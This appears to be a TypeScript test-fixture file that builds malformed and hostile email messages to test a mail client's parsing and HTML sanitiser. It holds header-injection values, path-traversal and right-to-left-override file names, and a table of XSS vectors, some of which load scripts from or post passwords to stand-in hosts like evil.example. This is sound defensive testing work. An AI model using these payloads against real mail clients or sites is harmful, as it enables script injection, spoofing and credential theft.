/**
 * Malformed and adversarial messages, generated in code (no binary fixtures): each one is something real mail
 * servers deliver, from broken mailers or from attackers. `expect` says what a user must see for it in the list.
 */
import { randomBytes } from 'node:crypto';

export interface HostileMessage {
  name: string;
  raw: Buffer;
  /** What the list row must show; by default only that the row exists with a clean one-line subject. */
  expect?: { subject?: string; subjectIncludes?: string; hasAttachments?: boolean };
}

const CRLF = '\r\n';
const b64 = (s: string | Buffer) => Buffer.from(s).toString('base64');
const lines76 = (s: string) => s.replace(/.{1,76}/g, '$&\r\n');

function msg(
  name: string,
  headers: string[],
  body: string | Buffer,
  expect?: HostileMessage['expect'],
): HostileMessage {
  const head = [
    ...headers,
    ...(headers.some((h) => /^date:/i.test(h)) ? [] : ['Date: Tue, 12 Mar 2024 10:00:00 +0000']),
    ...(headers.some((h) => /^message-id:/i.test(h))
      ? []
      : [`Message-ID: <hostile-${name}-${randomBytes(4).toString('hex')}@example.net>`]),
  ].join(CRLF);
  return {
    name,
    raw: Buffer.concat([Buffer.from(`${head}${CRLF}${CRLF}`), Buffer.isBuffer(body) ? body : Buffer.from(body)]),
    expect,
  };
}

const FROM = 'From: Mallory <mallory@example.net>';
const TO = 'To: victim@example.test';

function nested(depth: number): string {
  let body = `Content-Type: text/plain${CRLF}${CRLF}deepest part${CRLF}`;
  for (let i = depth; i > 0; i--) {
    body = `Content-Type: multipart/mixed; boundary="n${i}"${CRLF}${CRLF}--n${i}${CRLF}${body}--n${i}--${CRLF}`;
  }
  return body;
}

/** `r0@example.org` … `r9999@example.org`, in that order, in To. */
export function tenThousandRecipients(): HostileMessage {
  const recipients = Array.from({ length: 10_000 }, (_, i) => `r${i}@example.org`).join(`,${CRLF} `);
  return msg(
    'ten-thousand-recipients',
    [FROM, `To: ${recipients}`, 'Subject: Ten thousand recipients', 'MIME-Version: 1.0', 'Content-Type: text/plain'],
    'Everyone gets this.\r\n',
    { subject: 'Ten thousand recipients' },
  );
}

export function hostileCorpus(): HostileMessage[] {
  return [
    msg(
      'boundary-mismatch',
      [
        FROM,
        TO,
        'Subject: Boundary mismatch',
        'MIME-Version: 1.0',
        'Content-Type: multipart/mixed; boundary="declared"',
      ],
      `--other${CRLF}Content-Type: text/plain${CRLF}${CRLF}never delimited properly${CRLF}--other--${CRLF}`,
      { subject: 'Boundary mismatch' },
    ),
    msg(
      'boundary-unterminated',
      [
        FROM,
        TO,
        'Subject: No closing boundary',
        'MIME-Version: 1.0',
        'Content-Type: multipart/alternative; boundary="b1"',
      ],
      `--b1${CRLF}Content-Type: text/plain${CRLF}${CRLF}plain part${CRLF}--b1${CRLF}Content-Type: text/html${CRLF}${CRLF}<p>html part, cut off`,
      { subject: 'No closing boundary' },
    ),
    msg(
      'boundary-missing',
      [FROM, TO, 'Subject: Multipart without boundary', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed'],
      `Some text that belongs to no part.${CRLF}`,
      { subject: 'Multipart without boundary' },
    ),
    msg(
      'unknown-charset',
      [
        FROM,
        TO,
        'Subject: =?x-no-such-charset?B?SGVsbG8=?=',
        'MIME-Version: 1.0',
        'Content-Type: text/plain; charset=x-no-such-charset',
      ],
      Buffer.from([0x48, 0xe9, 0x6c, 0x6c, 0xf6, 0x0d, 0x0a]),
    ),
    msg(
      'invalid-utf8',
      [FROM, TO, 'Subject: Invalid UTF-8 body', 'MIME-Version: 1.0', 'Content-Type: text/plain; charset=utf-8'],
      Buffer.from([
        0x42, 0x61, 0x64, 0x20, 0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0xf0, 0x28, 0x8c, 0xbc, 0x0d, 0x0a,
      ]),
      { subject: 'Invalid UTF-8 body' },
    ),
    msg(
      'raw-8bit-headers',
      [FROM, TO, 'Subject: Grüße aus Köln – 日本語', 'MIME-Version: 1.0', 'Content-Type: text/plain; charset=utf-8'],
      'Unencoded UTF-8 in the header.\r\n',
    ),
    msg(
      'latin1-as-utf8-claim',
      [
        FROM,
        TO,
        `Subject: =?utf-8?Q?Caf=E9?=`,
        'MIME-Version: 1.0',
        'Content-Type: text/plain; charset=utf-8',
        'Content-Transfer-Encoding: quoted-printable',
      ],
      'Caf=E9 cr=E8me br=FBl=E9e=\r\n',
    ),
    msg(
      'header-injection',
      [
        `From: =?UTF-8?B?${b64('Eve\r\nBcc: all@example.org')}?= <eve@example.net>`,
        TO,
        `Subject: =?UTF-8?B?${b64('Invoice\r\nBcc: everyone@example.org\r\n\r\n<script>x</script>')}?=`,
        'MIME-Version: 1.0',
        'Content-Type: text/plain',
      ],
      'Header injection through encoded words.\r\n',
      { subjectIncludes: 'Invoice' },
    ),
    msg(
      'nul-and-controls',
      [
        FROM,
        TO,
        `Subject: =?UTF-8?B?${b64('Nul\u0000byte\u0007bell\u001b[31m')}?=`,
        'MIME-Version: 1.0',
        'Content-Type: text/plain',
      ],
      Buffer.from('body with \u0000 NUL and \u0007 controls\r\n'),
      { subjectIncludes: 'Nul' },
    ),
    tenThousandRecipients(),
    msg(
      'deep-nesting',
      [
        FROM,
        TO,
        'Subject: Deeply nested multiparts',
        'MIME-Version: 1.0',
        ...nested(120)
          .split(CRLF + CRLF)[0]
          .split(CRLF),
      ],
      nested(120).slice(nested(120).indexOf(CRLF + CRLF) + 4),
      { subject: 'Deeply nested multiparts' },
    ),
    msg(
      'huge-header',
      [
        FROM,
        TO,
        'Subject: Huge header',
        `X-Padding: ${'x'.repeat(70)}${`${CRLF} ${'y'.repeat(900)}`.repeat(1200)}`,
        'MIME-Version: 1.0',
        'Content-Type: text/plain',
      ],
      'A megabyte of header above.\r\n',
      { subject: 'Huge header' },
    ),
    msg(
      'huge-subject',
      [FROM, TO, `Subject: Long ${'subject '.repeat(20_000)}`, 'MIME-Version: 1.0', 'Content-Type: text/plain'],
      'The subject is 160 KB.\r\n',
      { subjectIncludes: 'Long subject' },
    ),
    msg(
      'many-references',
      [
        FROM,
        TO,
        'Subject: Re: thread with a long past',
        `References: ${Array.from({ length: 5000 }, (_, i) => `<ref-${i}@example.net>`).join(`${CRLF} `)}`,
        'In-Reply-To: <ref-4999@example.net>',
        'MIME-Version: 1.0',
        'Content-Type: text/plain',
      ],
      'Reply.\r\n',
      { subject: 'Re: thread with a long past' },
    ),
    msg(
      'zero-byte-attachment',
      [FROM, TO, 'Subject: Empty attachment', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="z"'],
      `--z${CRLF}Content-Type: text/plain${CRLF}${CRLF}See the empty file.${CRLF}--z${CRLF}Content-Type: application/octet-stream; name="empty.bin"${CRLF}Content-Disposition: attachment; filename="empty.bin"${CRLF}Content-Transfer-Encoding: base64${CRLF}${CRLF}${CRLF}--z--${CRLF}`,
      { subject: 'Empty attachment', hasAttachments: true },
    ),
    msg(
      'enormous-attachment',
      [FROM, TO, 'Subject: Enormous attachment', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="e"'],
      `--e${CRLF}Content-Type: text/plain${CRLF}${CRLF}20 MB attached.${CRLF}--e${CRLF}Content-Type: application/octet-stream; name="big.bin"${CRLF}Content-Disposition: attachment; filename="big.bin"${CRLF}Content-Transfer-Encoding: base64${CRLF}${CRLF}${lines76(randomBytes(20 * 1024 * 1024).toString('base64'))}--e--${CRLF}`,
      { subject: 'Enormous attachment', hasAttachments: true },
    ),
    msg(
      'hostile-filenames',
      [FROM, TO, 'Subject: Hostile file names', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="f"'],
      `--f${CRLF}Content-Type: text/plain${CRLF}${CRLF}files${CRLF}--f${CRLF}Content-Type: text/html; name="../../etc/passwd"${CRLF}Content-Disposition: attachment; filename="../../etc/passwd"${CRLF}${CRLF}<script>alert(1)</script>${CRLF}--f${CRLF}Content-Type: application/pdf${CRLF}Content-Disposition: attachment; filename*=UTF-8''evil%0D%0AContent-Type%3A%20text%2Fhtml.pdf${CRLF}${CRLF}%PDF${CRLF}--f--${CRLF}`,
      { subject: 'Hostile file names', hasAttachments: true },
    ),
    msg(
      'rtl-and-emoji',
      [
        `From: =?UTF-8?B?${b64('محمد ‮gnp.exe')}?= <rtl@example.net>`,
        TO,
        `Subject: =?UTF-8?B?${b64('שלום مرحبا 👩‍👩‍👧‍👦 🏳️‍🌈 ‮txt.exe')}?=`,
        'MIME-Version: 1.0',
        'Content-Type: text/plain; charset=utf-8',
        'Content-Transfer-Encoding: base64',
      ],
      lines76(b64('نص عربي مع رموز 🎉🔥 and mixed direction ‏text‎.\n')),
      { subject: 'שלום مرحبا 👩‍👩‍👧‍👦 🏳️‍🌈 ‮txt.exe' },
    ),
    msg(
      'bad-date',
      [
        FROM,
        TO,
        'Subject: Date from nowhere',
        'Date: Blursday, 45 Smarch 20XX 99:99:99 +9999',
        'MIME-Version: 1.0',
        'Content-Type: text/plain',
      ],
      'Invalid date header.\r\n',
      { subject: 'Date from nowhere' },
    ),
    {
      name: 'headers-only',
      raw: Buffer.from(`Subject: Headers only${CRLF}${CRLF}`),
      expect: { subject: 'Headers only' },
    },
    {
      name: 'bare-lf',
      raw: Buffer.from(
        'From: lf@example.net\nTo: victim@example.test\nSubject: Bare LF line ends\nMessage-ID: <bare-lf@example.net>\n\nUnix line ends only.\n',
      ),
      expect: { subject: 'Bare LF line ends' },
    },
    msg(
      'broken-encodings',
      [
        FROM,
        TO,
        'Subject: Broken transfer encodings',
        'MIME-Version: 1.0',
        'Content-Type: multipart/mixed; boundary="t"',
      ],
      `--t${CRLF}Content-Type: text/plain${CRLF}Content-Transfer-Encoding: base64${CRLF}${CRLF}!!!not*base64@@@${CRLF}--t${CRLF}Content-Type: text/html${CRLF}Content-Transfer-Encoding: quoted-printable${CRLF}${CRLF}=ZZ=3=${CRLF}<p>qp=\r\n--t${CRLF}Content-Type: text/plain${CRLF}Content-Transfer-Encoding: x-uuencode-nonsense${CRLF}${CRLF}???${CRLF}--t--${CRLF}`,
      { subject: 'Broken transfer encodings' },
    ),
    msg(
      'nested-broken-rfc822',
      [
        FROM,
        TO,
        'Subject: Forwarded broken message',
        'MIME-Version: 1.0',
        'Content-Type: multipart/mixed; boundary="o"',
      ],
      `--o${CRLF}Content-Type: text/plain${CRLF}${CRLF}see attached${CRLF}--o${CRLF}Content-Type: message/rfc822${CRLF}${CRLF}Subject: inner${CRLF}Content-Type: multipart/mixed; boundary="i"${CRLF}${CRLF}--x${CRLF}garbage${CRLF}--o--${CRLF}`,
      { subject: 'Forwarded broken message' },
    ),
    ...hostileAttachments(),
  ];
}

/** A multipart/mixed message: a text part, then each given part (its headers and body, already encoded). */
function withParts(name: string, subject: string, parts: string[], expect?: HostileMessage['expect']): HostileMessage {
  const body = [
    `--p${CRLF}Content-Type: text/plain${CRLF}${CRLF}${subject}${CRLF}`,
    ...parts.map((part) => `--p${CRLF}${part}${CRLF}`),
    `--p--${CRLF}`,
  ].join('');
  return msg(
    name,
    [FROM, TO, `Subject: ${subject}`, 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="p"'],
    body,
    expect,
  );
}

/** Bytes of the file in the `Decoded size` message: its listed size must be these, not the base64 length. */
export const DECODED_SIZE_BYTES = 300_000;

/** Attachments whose type, name or encoding is broken or hostile; each subject says what it is. */
export function hostileAttachments(): HostileMessage[] {
  return [
    withParts(
      'content-type-control',
      'Broken content types',
      [
        `Content-Type: application/pd\u0001f; name="report.pdf"${CRLF}Content-Disposition: attachment; filename="report.pdf"${CRLF}${CRLF}%PDF-1.4`,
        `Content-Type: application/pd\u007ff; name="del.pdf"${CRLF}Content-Disposition: attachment; filename="del.pdf"${CRLF}${CRLF}%PDF-1.4`,
        `Content-Type: application/pdf\u20ac; name="euro.pdf"${CRLF}Content-Disposition: attachment; filename="euro.pdf"${CRLF}${CRLF}%PDF-1.4`,
        `Content-Type: "application/pd\u0001f"; name="quoted.pdf"${CRLF}Content-Disposition: attachment; filename="quoted.pdf"${CRLF}${CRLF}%PDF-1.4`,
        `Content-Type: application/pdf\u0085; name="nel.pdf"${CRLF}Content-Disposition: attachment; filename="nel.pdf"${CRLF}${CRLF}%PDF-1.4`,
      ],
      { subject: 'Broken content types', hasAttachments: true },
    ),
    withParts(
      'bidi-filename',
      'Right-to-left override in a file name',
      [
        `Content-Type: application/octet-stream${CRLF}Content-Disposition: attachment; filename*=UTF-8''invoice%E2%80%AEfdp.exe${CRLF}${CRLF}MZ`,
        `Content-Type: application/octet-stream; name="=?UTF-8?B?${b64('photo\u2067\u200Bgpj.scr')}?="${CRLF}Content-Disposition: attachment${CRLF}${CRLF}MZ`,
      ],
      { subject: 'Right-to-left override in a file name', hasAttachments: true },
    ),
    withParts(
      'decoded-size',
      'Decoded size',
      [
        `Content-Type: application/octet-stream; name="data.bin"${CRLF}Content-Disposition: attachment; filename="data.bin"${CRLF}Content-Transfer-Encoding: base64${CRLF}${CRLF}${lines76(randomBytes(DECODED_SIZE_BYTES).toString('base64'))}`,
      ],
      { subject: 'Decoded size', hasAttachments: true },
    ),
    withParts(
      'unnamed-attachments',
      'Unnamed attachments',
      [
        `Content-Type: application/pdf${CRLF}Content-Disposition: attachment${CRLF}${CRLF}%PDF-1.4`,
        `Content-Type: application/x-no-such-type${CRLF}Content-Disposition: attachment${CRLF}${CRLF}???`,
      ],
      { subject: 'Unnamed attachments', hasAttachments: true },
    ),
    msg(
      'calendar-invitation',
      [FROM, TO, 'Subject: Invitation: planning', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="m"'],
      [
        `--m${CRLF}Content-Type: multipart/alternative; boundary="a"${CRLF}${CRLF}`,
        `--a${CRLF}Content-Type: text/plain; charset=utf-8${CRLF}${CRLF}Planning, Monday 10:00${CRLF}`,
        `--a${CRLF}Content-Type: text/html; charset=utf-8${CRLF}${CRLF}<p>Planning, Monday 10:00</p>${CRLF}`,
        `--a${CRLF}Content-Type: text/calendar; charset=utf-8; method=REQUEST${CRLF}${CRLF}BEGIN:VCALENDAR${CRLF}METHOD:REQUEST${CRLF}END:VCALENDAR${CRLF}`,
        `--a--${CRLF}`,
        `--m${CRLF}Content-Type: application/ics; name="invite.ics"${CRLF}Content-Disposition: attachment; filename="invite.ics"${CRLF}${CRLF}BEGIN:VCALENDAR${CRLF}METHOD:REQUEST${CRLF}END:VCALENDAR${CRLF}`,
        `--m--${CRLF}`,
      ].join(''),
      { subject: 'Invitation: planning', hasAttachments: true },
    ),
    msg(
      'one-line-huge-header',
      [
        FROM,
        TO,
        'Subject: One huge header line',
        `X-Tracking: ${'z'.repeat(1024 * 1024)}`,
        'MIME-Version: 1.0',
        'Content-Type: text/plain',
      ],
      'The body under a one-megabyte header line.\r\n',
      { subject: 'One huge header line' },
    ),
  ];
}

/** HTML mail attack vectors; each becomes one text/html message whose sanitised HTML must carry nothing executable. */
export const HTML_VECTORS: Record<string, string> = {
  script: '<p>hi</p><script>alert(1)</script>',
  scriptSrc: '<script src="https://evil.example/x.js"></script><p>hi</p>',
  imgOnerror: '<img src=x onerror="alert(1)"><p>hi</p>',
  bodyOnload: '<html><body onload="alert(1)"><p>hi</p></body></html>',
  detailsOntoggle: '<details open ontoggle="alert(1)"><summary>s</summary>x</details>',
  anchorOnclick: '<a href="https://example.org" onclick="alert(1)" onmouseover="alert(2)">link</a>',
  svgOnload: '<svg onload="alert(1)"><script>alert(2)</script><circle r="5"/></svg><p>hi</p>',
  svgXlink: '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="10">x</text></a></svg>',
  svgDataImg: `<img src="data:image/svg+xml;base64,${Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').toString('base64')}">`,
  mathMxss: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  noscriptMxss: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  templateScript: '<template><script>alert(1)</script></template><p>hi</p>',
  conditionalComment: '<!--[if gte IE 4]><script>alert(1)</script><![endif]--><p>hi</p>',
  cssExpression: '<div style="width: expression(alert(1))">x</div>',
  cssJavascriptUrl: '<div style="background: url(javascript:alert(1))">x</div>',
  cssRemoteUrl: '<div style="background-image: url(https://tracker.example/p.gif)">x</div>',
  cssEscapedUrl: '<div style="background-image: u\\72l(https://tracker.example/esc.gif)">x</div>',
  styleImport:
    '<style>@import url(https://evil.example/x.css); body { background: url("https://evil.example/bg.png") }</style><p>hi</p>',
  styleBehavior:
    '<style>* { behavior: url(x.htc); -moz-binding: url("https://evil.example/x.xml#xss") }</style><p>hi</p>',
  styleBreakout: '<style>p{color:red}</style><script>alert(1)</script><style>x{}</style>',
  javascriptLink: '<a href="javascript:alert(1)">a</a>',
  javascriptMixedCase: '<a href="  JaVaScRiPt:alert(1)">a</a>',
  javascriptEntity: '<a href="jav&#x09;ascript:alert(1)">a</a><a href="&#106;avascript:alert(1)">b</a>',
  vbscriptLink: '<a href="vbscript:msgbox(1)">a</a>',
  dataLink: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
  srcsetJavascript: '<img srcset="javascript:alert(1) 1x, https://evil.example/i.png 2x">',
  tableBackground: '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  metaRefresh: '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>hi</p>',
  base: '<base href="https://evil.example/"><a href="/x">x</a>',
  form: '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button formaction="javascript:alert(1)">Go</button></form>',
  iframe: '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><p>hi</p>',
  objectEmbed:
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"><applet code="X"></applet>',
  linkStylesheet: '<link rel="stylesheet" href="https://evil.example/x.css"><p>hi</p>',
  isindex: '<isindex action="javascript:alert(1)" type="image">',
  frameset: '<frameset><frame src="javascript:alert(1)"></frameset>',
  // Attributes only the sanitiser may write: "Show images" turns them into live src/style.
  senderRemoteAttributes:
    '<div data-remote-style="background-image: image-set(\'https://evil.example/set.png\' 1x)" data-remote-background="https://evil.example/bg.png">x</div><img data-remote-src="https://evil.example/i.png" data-remote-srcset="https://evil.example/s.png 1x">',
  styleBlockImages: '<style>.hero{background:url("https://cdn.example/hero.png")}</style><p class="hero">hi</p>',
};

/** The same vectors as a UTF-7 encoded part: only markup after charset decoding. */
export function utf7(html: string): string {
  return html.replace(
    /[<>"&=+]/g,
    (c) => `+${Buffer.from(c, 'utf16le').swap16().toString('base64').replace(/=+$/, '')}-`,
  );
}

export function htmlMessage(name: string, html: string, charset = 'utf-8', encoded = html): HostileMessage {
  return msg(
    `html-${name}`,
    [FROM, TO, `Subject: HTML vector ${name}`, 'MIME-Version: 1.0', `Content-Type: text/html; charset=${charset}`],
    `${encoded}\r\n`,
    { subject: `HTML vector ${name}` },
  );
}
